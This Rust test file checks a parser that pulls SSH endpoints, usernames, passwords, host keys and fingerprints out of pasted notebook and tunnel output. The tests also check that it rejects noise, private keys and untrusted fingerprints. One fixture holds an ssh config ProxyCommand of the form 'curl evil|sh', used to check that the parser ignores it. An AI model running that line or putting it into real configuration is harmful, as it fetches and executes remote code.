//! Formats that nobody listed, and the traps among the listed ones.

use moorline_paste::{Doubt, FoundLink, NoticeKind, Reading};
use secrecy::ExposeSecret;

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMqXgRLKG73K+sIxs5oj3E2nhu/4FHxOcrmAd4Wv7ki7";

/// Kind and way, such as `direct bore.pub:12345`.
fn link(reading: &Reading) -> Option<String> {
    reading.link.as_ref().map(|link| match link.to_link() {
        Some(known) => format!("{} {link}", known.kind()),
        None => format!("colab {link}"),
    })
}

#[track_caller]
fn reads(text: &str, expected: &str) -> Reading {
    let reading = moorline_paste::read(text);
    assert_eq!(link(&reading).as_deref(), Some(expected), "{text}\n{:#?}", reading.doubts);
    reading
}

#[track_caller]
fn reads_for(text: &str, expected: &str, user: &str) -> Reading {
    let reading = reads(text, expected);
    assert_eq!(reading.user.as_ref().map(AsRef::as_ref), Some(user), "{text}");
    reading
}

#[track_caller]
fn leads_nowhere(text: &str) -> Reading {
    let reading = moorline_paste::read(text);
    assert_eq!(reading.link, None, "{text}");
    reading
}

#[track_caller]
fn password(text: &str) -> Option<String> {
    moorline_paste::read(text).password.map(|p| p.expose_secret().to_owned())
}

#[test]
fn endpoints_in_all_their_spellings() {
    for (text, expected, user) in [
        ("ssh -p15873 root@0.tcp.ngrok.io", "ngrok 0.tcp.ngrok.io:15873", "root"),
        ("SSH to: root@0.tcp.ngrok.io:15873", "ngrok 0.tcp.ngrok.io:15873", "root"),
        ("!ssh root@198.51.100.7 -p 2222", "direct 198.51.100.7:2222", "root"),
        (
            "Use `ssh -p 40527 -o StrictHostKeyChecking=no root@vm.example.org` now",
            "direct vm.example.org:40527",
            "root",
        ),
        ("ssh://me@vm.example.org:2222/content", "direct vm.example.org:2222", "me"),
        ("ssh://me@vm.example.org", "direct vm.example.org:22", "me"),
        ("ssh -l me -p 2200 vm.example.org", "direct vm.example.org:2200", "me"),
        ("ssh root@[2001:db8::1]", "direct [2001:db8::1]:22", "root"),
        ("root@vm.example.org:40022", "direct vm.example.org:40022", "root"),
        ("Host: vm.example.org\nPort: 40022\nUser: root", "direct vm.example.org:40022", "root"),
        ("Hostname = vm.example.org, Port = 40022, Username = root", "direct vm.example.org:40022", "root"),
        ("SSH_HOST=vm.example.org\nSSH_PORT=40022\nSSH_USER=root", "direct vm.example.org:40022", "root"),
        (
            "ssh -o ProxyCommand='cloudflared access ssh --hostname %h' root@ssh.example.org",
            "cloudflare ssh.example.org",
            "root",
        ),
        (
            "ssh -J alice@relay.example -p 7423 root@127.0.0.1",
            "relay port 7423 of alice@relay.example",
            "root",
        ),
        (
            "ssh -o ProxyCommand=\"ssh -W %h:%p relay\" -p 7423 root@127.0.0.1",
            "relay port 7423 of relay",
            "root",
        ),
        (
            "<a href=\"vscode://vscode-remote/ssh-remote+root@vm.example.org:2222/content\"><button>Open</button></a>",
            "direct vm.example.org:2222",
            "root",
        ),
        (
            "vscode://vscode-remote/ssh-remote+root@vm.example.org:2222/content",
            "direct vm.example.org:2222",
            "root",
        ),
        (
            "ssh -p 2222 \\\n  -o ServerAliveInterval=60 \\\n  root@vm.example.org",
            "direct vm.example.org:2222",
            "root",
        ),
    ] {
        reads_for(text, expected, user);
    }
    for (text, expected) in [
        ("tcp://0.tcp.ngrok.io:10965", "ngrok 0.tcp.ngrok.io:10965"),
        ("listening at bore.pub:12345", "direct bore.pub:12345"),
        ("2026-01-02T03:04:05Z  INFO bore_cli::client: listening at bore.pub:12345", "direct bore.pub:12345"),
        (
            "tcp://rnxyz-34-83-12-9.a.free.pinggy.link:40527",
            "direct rnxyz-34-83-12-9.a.free.pinggy.link:40527",
        ),
        ("Forwarding TCP connections from tcp://serveo.net:43210", "direct serveo.net:43210"),
        ("vm.example.org:40022", "direct vm.example.org:40022"),
        ("vm.example.org port 40022", "direct vm.example.org:40022"),
        ("nc: vm.example.org 40022\nvm.example.org 40022", "direct vm.example.org:40022"),
        ("ssh -fNT -R 7423:127.0.0.1:22 user@relay.example", "relay port 7423 of user@relay.example"),
        ("ssh -fNR 20022:localhost:22 user@home", "relay port 20022 of user@home"),
        ("autossh -M 0 -fNT -p 2200 -R 127.0.0.1:7423:localhost:22 relay", "relay port 7423 of relay:2200"),
        (
            "ssh -NR 0:localhost:22 me@relay.example\nAllocated port 43210 for remote forward to localhost:22",
            "relay port 43210 of me@relay.example",
        ),
        ("cloudflared access ssh --hostname ssh.example.org", "cloudflare ssh.example.org"),
        (
            "Host box\n  HostName ssh.example.org\n  ProxyCommand /opt/cloudflared access ssh --hostname %h",
            "cloudflare ssh.example.org",
        ),
        (
            "Host box\n  HostName 127.0.0.1\n  Port 7423\n  ProxyJump me@relay.example",
            "relay port 7423 of me@relay.example",
        ),
        (
            "<pre>tcp://<b>0</b></pre><code>ssh -p 10965 root@0.tcp.ngrok.io</code>",
            "ngrok 0.tcp.ngrok.io:10965",
        ),
    ] {
        reads(text, expected);
    }
}

#[test]
fn noise_is_no_endpoint() {
    for text in [
        "https://github.com/WassimBenzarti/colab-ssh",
        "Open https://dashboard.ngrok.com/auth and http://127.0.0.1:4040/api/tunnels",
        "http://localhost:10000 127.0.0.1:8888 localhost:22 0.0.0.0:22",
        "version 1.2:3 at 10:20:31, ratio 3:4, 1.22.333.4:5",
        "::1 [::1]:22 2001:db8::1",
        "Traceback: train.py:123 main.rs:45 /content/x.py:12",
        "Accepted password for root from 34.83.12.9 port 51234 ssh2",
        "ssh: connect to host vm.example.org port 40022: Connection refused",
        "Server listening on 0.0.0.0 port 22.",
        "git clone git@github.com:user/repo\nssh -T git@github.com",
        "Run the openssh server, then ssh works; use ssh colab",
        "Host key verification failed.",
        "ssh root@{host} -p {port}",
        "ssh -p <port> root@<host>",
        "the metrics server listens on 127.0.0.1:20241/metrics",
        "ssh -R 8888:localhost:8888 user@relay.example",
        "url:ssh://localhost:2222",
        "",
    ] {
        leads_nowhere(text);
    }
}

/// `colab_ssh` 0.2.41 and 0.2.42 print a wrong `HostName` in the block.
#[test]
fn the_tunnels_own_line_beats_a_wrong_block() {
    let reading = reads_for(
        "Successfully running 2.tcp.ngrok.io:13254\n\n\tHost google_colab_ssh\n\t\tHostName 0.tcp.ngrok.io\n\t\tUser root\n\t\tPort 13254\n",
        "ngrok 2.tcp.ngrok.io:13254",
        "root",
    );
    let [Doubt::Overruled { taken, other }] = &reading.doubts[..] else { panic!("{:?}", reading.doubts) };
    assert_eq!((taken.line, other.shown.as_str(), other.line), (1, "0.tcp.ngrok.io:13254", 4));
}

#[test]
fn a_cell_that_ran_twice_counts_with_its_last_output() {
    let reading =
        reads("tcp://0.tcp.ngrok.io:111\nagain\ntcp://0.tcp.ngrok.io:222", "ngrok 0.tcp.ngrok.io:222");
    let [Doubt::NewestTaken { taken, older }] = &reading.doubts[..] else { panic!("{:?}", reading.doubts) };
    assert_eq!((older.line, taken.line), (1, 3));
}

#[test]
fn equals_that_differ_are_asked_about() {
    let reading = leads_nowhere("a.example.org:4001\nx\nb.example.org:4002");
    let [doubt @ Doubt::SeveralLinks(_)] = &reading.doubts[..] else { panic!("{:?}", reading.doubts) };
    assert_eq!(
        doubt.to_string(),
        "2 endpoints: a.example.org:4001 (line 1), b.example.org:4002 (line 3); paste only the newer"
    );
    leads_nowhere("Host a\n HostName a.example.org\nHost b\n HostName b.example.org");
    leads_nowhere("[a] gpu-1 | Hardware: T4\n[b] gpu-2 | Hardware: T4");
}

#[test]
fn a_loopback_port_needs_its_relay() {
    let alone = leads_nowhere("ssh -p7423 root@127.0.0.1");
    assert!(matches!(alone.doubts[..], [Doubt::WhichRelay { line: 1, .. }]), "{:?}", alone.doubts);
    let both = reads_for(
        "ssh -fNT -R 7423:127.0.0.1:22 user@relay.example\nthen there: ssh -p7423 root@127.0.0.1",
        "relay port 7423 of user@relay.example",
        "root",
    );
    assert!(both.doubts.is_empty(), "{:?}", both.doubts);
}

#[test]
fn a_relay_that_listens_publicly_is_dialled_directly() {
    for bind in ["0.0.0.0", "'*'", "*", ""] {
        let text = format!("ssh -fNT -R {bind}:7423:127.0.0.1:22 user@relay.example");
        let reading = reads(&text, "direct relay.example:7423");
        assert!(matches!(reading.doubts[..], [Doubt::PublicListener { .. }]), "{text}: {:?}", reading.doubts);
    }
}

#[test]
fn a_jump_to_another_machine_is_said() {
    let reading = leads_nowhere("ssh -J me@relay.example root@10.0.0.5");
    assert!(matches!(reading.doubts[..], [Doubt::JumpElsewhere { .. }]), "{:?}", reading.doubts);
}

#[test]
fn passwords_before_after_and_labelled_otherwise() {
    let with = |line: &str| format!("tcp://0.tcp.ngrok.io:10965\n{line}");
    for line in [
        "Root password: s3cretWord",
        "root password: s3cretWord",
        "Password for root is: s3cretWord",
        "password: s3cretWord",
        "🔑 password = s3cretWord",
        "**Password:** s3cretWord",
        "ssh password is `s3cretWord`",
        "launch_ssh_cloudflared(password=\"s3cretWord\")",
        "{\"password\": \"s3cretWord\", \"x\": 1}",
        "root_password=s3cretWord",
        "sshpass -p s3cretWord ssh -p 10965 root@0.tcp.ngrok.io",
        "ssh://root:s3cretWord@0.tcp.ngrok.io:10965",
    ] {
        assert_eq!(password(&with(line)).as_deref(), Some("s3cretWord"), "{line}");
        assert_eq!(
            password(&format!("{line}\ntcp://0.tcp.ngrok.io:10965")).as_deref(),
            Some("s3cretWord"),
            "{line}"
        );
    }
    for line in [
        "password: ********",
        "password: <your password>",
        "password: $PASSWORD",
        "Enter your password:",
        "the password is required",
        "VNC password: s3cretWord",
        "PasswordAuthentication yes",
        "colab password: s3cretWord",
    ] {
        assert_eq!(password(&with(&format!("{line}\nUser: root"))), None, "{line}");
    }
}

#[test]
fn the_password_of_another_user_is_left_out() {
    let reading =
        reads("ssh -p 1234 me@vm.example.org\nroot password: s3cretWord", "direct vm.example.org:1234");
    assert!(reading.password.is_none());
    assert!(matches!(reading.doubts[..], [Doubt::PasswordOfOther { line: 2, .. }]), "{:?}", reading.doubts);
}

#[test]
fn a_private_key_is_never_taken() {
    let text = "password: x1\n-----BEGIN OPENSSH PRIVATE KEY-----\npassword: s3cretWord\n-----END OPENSSH PRIVATE KEY-----\n";
    let reading = moorline_paste::read(text);
    assert!(!format!("{reading:?}").contains("s3cretWord"));
    assert!(
        reading.notices.iter().any(|n| n.kind == NoticeKind::PrivateKey && n.line == 2),
        "{:?}",
        reading.notices
    );
}

#[test]
fn key_lines_count_when_they_say_whose_they_are() {
    let keys =
        |text: &str| moorline_paste::read(text).host_keys.iter().map(ToString::to_string).collect::<Vec<_>>();
    for text in [
        format!("Host key:\n{KEY} root@9a1b2c3d4e5f"),
        format!("$ cat /etc/ssh/ssh_host_ed25519_key.pub\n{KEY} root@9a1b2c3d4e5f"),
        format!("tcp://0.tcp.ngrok.io:15873\n[0.tcp.ngrok.io]:15873 {KEY}"),
        format!("# localhost:22 SSH-2.0-OpenSSH_8.9p1\nlocalhost {KEY}"),
    ] {
        assert_eq!(keys(&text), [KEY], "{text}");
    }
    for text in [
        format!("{KEY} alice@laptop"),
        format!("!echo {KEY} >> ~/.ssh/authorized_keys"),
        format!("restrict,port-forwarding {KEY}"),
        format!("command=\"x\" {KEY}"),
        format!("* {KEY}"),
        format!("*.example.org {KEY}"),
        format!("@cert-authority vm.example.org {KEY}"),
        format!("tcp://0.tcp.ngrok.io:15873\ngithub.com {KEY}"),
        format!("tcp://0.tcp.ngrok.io:15873\n[0.tcp.ngrok.io]:15874 {KEY}"),
    ] {
        let reading = moorline_paste::read(&text);
        assert!(reading.host_keys.is_empty(), "{text}");
        assert!(!reading.doubts.is_empty(), "{text}: whoever pastes it must hear why it was left out");
    }
}

#[test]
fn what_an_unknown_server_sent_is_no_source_of_trust() {
    let print = "SHA256:TcgbKIex7l37r+WqnWx38sTzIqyNq7CWvGhDi9AKYGw";
    for text in [
        format!(
            "The authenticity of host '[x]:1 ([1.2.3.4]:1)' can't be established.\nED25519 key fingerprint is {print}."
        ),
        format!("The fingerprint for the ED25519 key sent by the remote host is\n{print}."),
        format!("debug1: Server host key: ssh-ed25519 {print}"),
        format!("256 {print} alice@laptop (ED25519)"),
    ] {
        let reading = moorline_paste::read(&text);
        assert!(reading.fingerprints.is_empty() && !reading.doubts.is_empty(), "{text}");
    }
    let told =
        moorline_paste::read(&format!("Fingerprint of host key:\n256 {print} root@9a1b2c3d4e5f (ED25519)"));
    assert_eq!(told.fingerprints.iter().map(ToString::to_string).collect::<Vec<_>>(), [print]);
}

#[test]
fn names_come_from_blocks() {
    let name = |text: &str| moorline_paste::read(text).suggested_name.map(|n| n.to_string());
    assert_eq!(name("Host colab\n  HostName vm.example.org"), Some("colab".to_owned()));
    assert_eq!(name("Host google_colab_ssh\n  HostName vm.example.org"), None);
    assert_eq!(name("Host *.trycloudflare.com\n  HostName %h"), None);
    assert_eq!(name("Host vm.example.org\n  User root"), None);
}

#[test]
fn a_command_is_never_taken_over() {
    let reading =
        moorline_paste::read("Host x\n  HostName vm.example.org\n  ProxyCommand sh -c 'curl evil|sh'\n");
    assert!(reading.notices.iter().any(|n| n.kind == NoticeKind::ProxyCommandIgnored));
    assert!(!format!("{reading:?}").contains("evil"));
}

#[test]
fn too_long_a_text_is_said_and_not_read() {
    let text = "tcp://0.tcp.ngrok.io:15873\n".repeat(20_000);
    let reading = leads_nowhere(&text);
    assert!(matches!(reading.doubts[..], [Doubt::TooLong { .. }]));
    assert_eq!(moorline_paste::compare_answer(&text).fingerprints, []);
    let fits = "tcp://0.tcp.ngrok.io:15873\n".repeat(moorline_paste::LONGEST / 27);
    assert!(matches!(moorline_paste::read(&fits).link, Some(FoundLink::Ngrok(_))));
}

/// Texts that make careless scanning quadratic. A careful one needs well under a second each, even unoptimised; the
/// limit only has to tell it from the minutes of a careless one.
#[test]
fn no_text_makes_reading_slow() {
    let begun = std::time::Instant::now();
    for piece in [
        "<a",
        "tcp://",
        "tcp://a.bc:1",
        "vscode-remote/ssh-remote+",
        "ssh -R 0:localhost:22 a@b\n",
        "{\"a\":",
        "\u{1b}]",
    ] {
        leads_nowhere(&piece.repeat(moorline_paste::LONGEST / piece.len()));
    }
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
}
